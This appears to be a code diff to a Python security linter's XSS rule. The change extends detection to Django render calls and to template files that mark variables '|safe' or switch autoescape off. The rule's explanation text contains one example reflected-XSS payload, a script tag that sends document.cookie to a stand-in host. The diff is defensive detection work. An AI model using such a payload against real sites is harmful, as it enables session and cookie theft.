@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import ast
 from typing import Callable
-import re
 
 from tabguard.engine.rule import Invalid, Rule
 from tabguard.engine.types import Related
@@ -21,11 +20,10 @@ from tabguard.rules.injection._html import (
     unescaped_template,
 )
 from tabguard.rules.injection._strings import built_string, is_string_building, raised
+from tabguard.rules.injection._template_files import AUTOESCAPE_OFF, DJANGO_RENDER, MARKED_SAFE, unescaped_variables
 
 # Flask renders an inline template with auto-escaping on; the template itself can switch it off.
 _INLINE_RENDER = frozenset({"flask.render_template_string", "flask.templating.render_template_string"})
-_MARKED_SAFE = re.compile(r"\{\{-?\s*(\w+)[^{}]*?\|\s*safe\b")
-_AUTOESCAPE_OFF = re.compile(r"\{%-?\s*autoescape\s+false\b")
 
 
 _MAKE_RESPONSE = frozenset({"flask.make_response", "quart.make_response"})
@@ -57,13 +55,15 @@ class HtmlResponseXss(Rule):
     message = "HTML response built from user input ({source}) without escaping"
     placeholders = {"source": "request data"}
     aliases = ()
-    call_names = last_names(HTML_RESPONSES | FLASK_RENDER | _INLINE_RENDER)
+    call_names = last_names(HTML_RESPONSES | FLASK_RENDER | _INLINE_RENDER | set(DJANGO_RENDER))
     what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
     why = (
         "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
         "page run the attacker's script in the victim's session (reflected XSS): it reads the page, "
         "acts as the user and steals non-HttpOnly cookies. Flask sends a returned string as `text/html`, "
-        "as does Django's `HttpResponse`."
+        "as does Django's `HttpResponse`. A template that marks a variable `|safe` (or turns autoescape "
+        "off) does the same to whatever the view passes for it: the template file beside the view is read "
+        "to see which variables it shows unescaped."
     )
     how = (
         "Render through a template with auto-escaping (`render_template`, Django templates), escape each "
@@ -219,8 +219,10 @@ class HtmlResponseXss(Rule):
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
-        if callee in FLASK_RENDER:
-            self._check_unescaped_template(node, ctx)
+        if callee in FLASK_RENDER or callee in DJANGO_RENDER:
+            self._check_template_file(node, callee, ctx)
+            if callee in FLASK_RENDER:
+                self._check_unescaped_template(node, ctx)
             return
         if callee in _INLINE_RENDER:
             self._check_marked_safe(node, ctx)
@@ -272,8 +274,8 @@ class HtmlResponseXss(Rule):
         text = ctx.constant_value(node.args[0]) if node.args else None
         if not isinstance(text, str):
             return
-        off = _AUTOESCAPE_OFF.search(text) is not None
-        marked = set(_MARKED_SAFE.findall(text))
+        off = AUTOESCAPE_OFF.search(text) is not None
+        marked = set(MARKED_SAFE.findall(text))
         chosen = [k for k in node.keywords if k.arg is not None and (off or k.arg in marked)]
         self._first_tainted(
             ctx,
@@ -281,6 +283,21 @@ class HtmlResponseXss(Rule):
             lambda k: (
                 "the template marks it safe with "
                 + ("`{% autoescape false %}`" if off else f"`{{{{ {k.arg}|safe }}}}`")
+            ),
+        )
+
+    def _check_template_file(self, node: ast.Call, callee: str, ctx) -> None:
+        """`render(request, "search.html", {"q": q})` where search.html shows `{{ q|safe }}` (or turns
+        autoescape off): the template file opts the value out of escaping."""
+        found = unescaped_variables(node, callee, ctx)
+        if found is None:
+            return
+        off, chosen = found
+        self._first_tainted(
+            ctx,
+            chosen,
+            lambda k: (
+                "its template marks it safe with " + ("`{% autoescape off %}`" if off else f"`{{{{ {k.arg}|safe }}}}`")
             ),
         )
 
